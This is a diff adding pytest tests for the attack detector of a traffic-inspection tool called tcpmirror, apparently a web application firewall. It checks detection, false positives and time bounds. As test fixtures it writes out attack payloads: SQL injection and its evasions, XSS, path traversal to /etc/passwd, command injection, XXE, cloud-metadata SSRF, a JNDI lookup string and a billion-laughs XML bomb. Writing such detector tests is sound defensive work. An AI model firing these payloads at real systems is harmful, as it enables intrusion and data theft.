@@ -1,0 +1,160 @@
+"""The detector: attacks found where they are put, clean requests left alone, cost bounded."""
+
+from __future__ import annotations
+
+import dataclasses
+import time
+from pathlib import Path
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from tcpmirror.detect.detector import FINDINGS_LIMIT, Detector
+from tcpmirror.model.anomaly import Anomaly
+from tcpmirror.model.attack import ATTACK_TYPES
+from tcpmirror.model.exchange import Exchange, Request, Response
+from tcpmirror.processes.detection import build_detector
+from tcpmirror.settings.tree import Limits, Settings
+from tests.detect.requests import PLACES, request
+
+ATTACKS = {
+    "sqli": b"1' UNION SELECT null,password FROM users--",
+    "xss": b'"><img src=x onerror=alert(1)>',
+    "ptrav": b"../../../etc/passwd",
+    "rce": b"127.0.0.1; cat /etc/hosts",
+    "xxe": b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///x">]><r>&x;</r>',
+    "ssrf": b"http://169.254.169.254/latest/meta-data/",
+    "ssti": b"{{7*7}}",
+    "ssi": b'<!--#exec cmd="id" -->',
+    "nosqli": b"' || this.password.match(/.*/)//",
+    "ldapi": b"*)(uid=*))(|(uid=*",
+    "crlf": b"x\r\nSet-Cookie: a=b",
+    "mail_injection": b"a@b.example\r\nBcc: c@d.example",
+}
+EVASIONS = {
+    "comments in SQL": ("sqli", b"1'/**/UnIoN/*x*/SeLeCt/**/1,2"),
+    "conditional comments": ("sqli", b"1 /*!50000union*/ /*!50000select*/ 1,2"),
+    "blanks in SQL": ("sqli", b"1'\x0bunion\x0c\tselect\n1"),
+    "NUL in a tag": ("xss", b"<scr\0ipt>alert(1)</scr\0ipt>"),
+    "full-width markup": ("xss", "＜script＞alert(1)＜/script＞".encode()),
+    "overlong dots": ("ptrav", b"\xc0\xae\xc0\xae\xc0\xaf\xc0\xae\xc0\xae\xc0\xafetc/x"),
+    "backslashes": ("ptrav", rb"..\..\..\windows\win.ini"),
+    "double dots doubled": ("ptrav", b"....//....//....//etc/x"),
+    "shell quotes": ("rce", b";c''at /e\"\"tc/x"),
+    "IFS": ("rce", b";cat$IFS/etc/x"),
+    "log lookup in pieces": ("rce", b"${${::-j}${::-n}${::-d}${::-i}:ldap://192.0.2.1/a}"),
+}
+HARMLESS = {
+    "prose with command words": b"Please find the time to sort out which cat sat on the mat; who knows, more or less.",
+    "prose with SQL words": b"Select your union from the list and order by Friday, or drop us a line where possible.",
+    "apostrophes": b"It's O'Neil's dog; isn't it Anne's 'n' Bob's?",
+    "arithmetic": b"a < b, 5 > 3, so x = y + 2 * (z - 1) or less",
+    "template": b"Dear {{first_name}} {{last_name}}, your code is ${code}.",
+    "URL": b"https://shop.example/list?page=2&sort=price#top",
+    "email": b"Ann Example <ann@shop.example>",
+    "session token": b"e5640e412a4c331be141cfe49c587d51",
+    "company names": b"AT&T, R&D; Johnson & Johnson | Barnes & Noble",
+    "JSON": b'{"from": "a", "where": ["b", "c"], "select": null}',
+    "path": b"/var/lib-name/of-a/product.html",
+    "date": b"2024-01-02T03:04:05+01:00",
+}
+
+
+@pytest.mark.parametrize("place", PLACES)
+@pytest.mark.parametrize(("kind", "value"), ATTACKS.items(), ids=ATTACKS)
+def test_attacks_are_found_in_every_place(detector: Detector, kind: str, value: bytes, place: str) -> None:
+    found = detector.inspect(PLACES[place](value))
+    assert kind in {finding.type for finding in found}
+    assert all(finding.type in ATTACK_TYPES and 0 < finding.confidence <= 1 for finding in found)
+    assert all(len(finding.payload) <= 512 for finding in found)
+
+
+@pytest.mark.parametrize(("kind", "value"), EVASIONS.values(), ids=EVASIONS)
+def test_evasions_are_found(detector: Detector, kind: str, value: bytes) -> None:
+    assert kind in {finding.type for finding in detector.inspect(PLACES["query"](value))}
+
+
+@pytest.mark.parametrize("place", PLACES)
+@pytest.mark.parametrize("value", HARMLESS.values(), ids=HARMLESS)
+def test_harmless_values_are_left_alone_in_every_wrapping(detector: Detector, value: bytes, place: str) -> None:
+    assert detector.inspect(PLACES[place](value)) == []
+
+
+def test_a_system_file_in_the_path(detector: Detector) -> None:
+    (finding,) = detector.inspect(request(b"GET", b"/etc/passwd"))
+    assert (finding.type, finding.point) == ("ptrav", ("uri",))
+
+
+def test_clean_requests_do_not_reach_the_second_tier(detector: Detector) -> None:
+    before = detector.tier2, detector.inspected
+    for target in (b"/", b"/products?id=42&q=running+shoes&page=2", b"/static/app.4f3a2b.js", b"/api/v1/orders/17"):
+        assert detector.inspect(request(b"GET", target)) == []
+    assert (detector.tier2, detector.inspected) == (before[0], before[1] + 4)
+
+
+def test_what_was_learned_as_clean_hides_nothing(detector: Detector) -> None:
+    for _ in range(2):
+        detector.inspect(request(b"GET", b"/", b"X-Plain: yes\r\n"))
+        assert detector.inspect(request(b"GET", b"/", b"X-Plain: ${jndi:ldap://192.0.2.1/a}\r\n"))
+        assert detector.inspect(request(b"GET", b"/", b"User-Agent: sqlmap/1.7\r\n"))
+
+
+def test_a_flood_of_attacks_is_cut(detector: Detector) -> None:
+    body = b"&".join(b"p%d=%%3Cscript%%3Ealert(1)%%3C/script%%3E" % index for index in range(200))
+    assert len(detector.inspect(request(b"POST", b"/", b"", body))) == FINDINGS_LIMIT
+
+
+def test_a_compressed_bomb_is_a_data_bomb(detector: Detector) -> None:
+    exchange = request(b"POST", b"/", b"", b"a=1")
+    exchange.anomalies = 1 << Anomaly.DECOMPRESSION_LIMIT
+    assert [finding.type for finding in detector.inspect(exchange)] == ["data_bomb"]
+
+
+def test_a_spent_budget_is_told() -> None:
+    limits = dataclasses.replace(Limits(), process_time_ns=50_000)
+    slow = build_detector(dataclasses.replace(Settings(), limits=limits), Path(__file__).parents[2] / "build" / "rules")
+    body = b"&".join(b"p%d=%%27x" % index for index in range(500))
+    found = slow.inspect(request(b"POST", b"/?a=<script>", b"", body))
+    assert "overlimit_res" in {finding.type for finding in found}
+
+
+def test_a_response_without_request_is_judged(detector: Detector) -> None:
+    response = Response(b"HTTP/1.1 500 X\r\nContent-Type: text/plain\r\n\r\n", b"Traceback (most recent call last):\n")
+    (finding,) = detector.inspect(Exchange(None, response))
+    assert (finding.type, finding.point) == ("infoleak", ("response_body",))
+
+
+def test_binary_responses_are_not_looked_at(detector: Detector) -> None:
+    response = Response(b"HTTP/1.1 200 OK\r\nContent-Type: image/png\r\n\r\n", b"root:x:0:0:root:/root:/bin/bash")
+    assert detector.inspect(Exchange(None, response)) == []
+
+
+HOSTILE = {
+    "billion laughs": b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "lol">'
+    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9))
+    + b"]><l>&j;</l>",
+    "quotes": b"a='" + b"' or '" * 20_000,
+    "brackets": b"[" * 100_000,
+    "angles": b"<" * 100_000,
+    "spaces": b"a=" + b" " * 100_000 + b"'",
+    "dots": b"a=" + b"../" * 30_000,
+    "semicolons": b"a=" + b";cat" * 25_000,
+}
+
+
+@pytest.mark.parametrize("body", HOSTILE.values(), ids=HOSTILE)
+def test_hostile_bodies_are_judged_in_bounded_time(detector: Detector, body: bytes) -> None:
+    started = time.process_time()
+    detector.inspect(request(b"POST", b"/", b"", body))
+    assert time.process_time() - started < 1.5
+
+
+@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(head=st.binary(max_size=200), body=st.binary(max_size=200))
+def test_no_bytes_make_it_fail_and_the_first_tier_is_never_too_strict(detector: Detector, head: bytes, body: bytes) -> None:
+    line = head.replace(b"\n", b"").replace(b"\r", b"")
+    message = Request(b"GET /?" + line + b" HTTP/1.1\r\nX: " + line + b"\r\n\r\n", body, 0, b"GET", b"/?" + line)
+    if detector.judge_request(message):
+        assert detector.is_suspect(message)
+    detector.inspect(Exchange(message, Response(b"HTTP/1.1 200 OK\r\n\r\n", body)))
